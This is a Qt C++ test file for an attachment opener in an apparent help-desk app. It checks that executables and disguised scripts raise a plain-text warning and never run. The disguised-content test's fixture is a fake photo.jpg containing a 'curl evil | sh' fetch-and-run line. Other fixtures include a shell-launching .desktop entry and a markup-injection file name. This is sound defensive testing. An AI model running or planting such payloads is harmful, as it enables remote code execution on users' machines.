#include "attachmentopener.h"

#include <QApplication>
#include <QFile>
#include <QLabel>
#include <QMessageBox>
#include <QPushButton>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>

using namespace Relaydesk::App;

// Opening a customer's file: one click for a document, a warning and no way to run it
// for anything that can run programs. Offscreen; the desktop is a recorder.
class TestAttachmentOpener : public QObject
{
    Q_OBJECT
private slots:
    void init();
    void cleanup();

    void documentOpensAtOnce();
    void programAsksAndNeverOpens();
    void showInFolderOpensTheFolder();
    void disguisedContentAsksToo();
    void failureIsReported();

private:
    QString write(const QString &name, const QByteArray &content);

    std::unique_ptr<QTemporaryDir> m_dir;
    std::unique_ptr<QWidget> m_window;
    std::unique_ptr<AttachmentOpener> m_opener;
    QList<QUrl> m_opened;
    bool m_openSucceeds = true;
};

void TestAttachmentOpener::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    m_window = std::make_unique<QWidget>();
    m_window->show();
    m_opener = std::make_unique<AttachmentOpener>(m_window.get());
    m_opened.clear();
    m_openSucceeds = true;
    m_opener->setUrlOpener([this](const QUrl &url) {
        m_opened.append(url);
        return m_openSucceeds;
    });
}

void TestAttachmentOpener::cleanup()
{
    m_opener.reset();
    m_window.reset();
    m_dir.reset();
}

QString TestAttachmentOpener::write(const QString &name, const QByteArray &content)
{
    QFile file(m_dir->filePath(name));
    if (!file.open(QIODevice::WriteOnly) || file.write(content) != content.size())
        return {};
    return file.fileName();
}

void TestAttachmentOpener::documentOpensAtOnce()
{
    const QString pdf = write(QStringLiteral("report.pdf"), "%PDF-1.4\n");
    m_opener->open(pdf);
    QCOMPARE(m_opened, QList<QUrl>{QUrl::fromLocalFile(pdf)});
    QVERIFY(!m_opener->question());
}

void TestAttachmentOpener::programAsksAndNeverOpens()
{
    // The customer chose the name: markup in it is shown as it is.
    const QString exe = write(QStringLiteral("<b>invoice.exe"), QByteArray("MZ\x90\x00", 4));
    m_opener->open(exe);
    QMessageBox *box = m_opener->question();
    QVERIFY(box);
    QVERIFY(box->isVisible());
    QCOMPARE(box->parentWidget(), m_window.get());
    QVERIFY(box->text().startsWith(QStringLiteral("This file can run programs on your computer")));
    QVERIFY(box->text().contains(QStringLiteral("<b>invoice.exe")));
    QCOMPARE(box->textFormat(), Qt::PlainText);
    QLabel *label = box->findChild<QLabel *>(QStringLiteral("qt_msgbox_label"));
    QVERIFY(label);
    QCOMPARE(label->textFormat(), Qt::PlainText);
    // Two ways out, neither of them runs it; Cancel is the default.
    const QList<QAbstractButton *> buttons = box->buttons();
    QCOMPARE(buttons.size(), 2);
    QVERIFY(box->button(QMessageBox::Cancel));
    QCOMPARE(box->defaultButton(), box->button(QMessageBox::Cancel));
    QVERIFY(box->findChild<QPushButton *>(QStringLiteral("showInFolderButton")));
    QVERIFY(m_opened.isEmpty());

    QTest::keyClick(box, Qt::Key_Escape);
    QTRY_VERIFY(!m_opener->question());
    QVERIFY(m_opened.isEmpty());
}

void TestAttachmentOpener::showInFolderOpensTheFolder()
{
    const QString script = write(QStringLiteral("run.desktop"), "[Desktop Entry]\nType=Application\nExec=sh\n");
    m_opener->open(script);
    QVERIFY(m_opener->question());
    auto *show = m_opener->question()->findChild<QPushButton *>(QStringLiteral("showInFolderButton"));
    QVERIFY(show);
    QCOMPARE(show->text(), QStringLiteral("Show in folder"));
    show->click();
    QCOMPARE(m_opened, QList<QUrl>{QUrl::fromLocalFile(m_dir->path())});
    QTRY_VERIFY(!m_opener->question());
}

void TestAttachmentOpener::disguisedContentAsksToo()
{
    m_opener->open(write(QStringLiteral("photo.jpg"), "#!/bin/sh\ncurl evil | sh\n"));
    QVERIFY(m_opener->question());
    QVERIFY(m_opened.isEmpty());
}

void TestAttachmentOpener::failureIsReported()
{
    QSignalSpy failed(m_opener.get(), &AttachmentOpener::openFailed);
    m_openSucceeds = false;
    m_opener->open(write(QStringLiteral("notes.txt"), "hello\n"));
    QCOMPARE(failed.size(), 1);
    QVERIFY(failed.first().first().toString().contains(QStringLiteral("notes.txt")));
}

QTEST_MAIN(TestAttachmentOpener)
#include "tst_attachmentopener.moc"
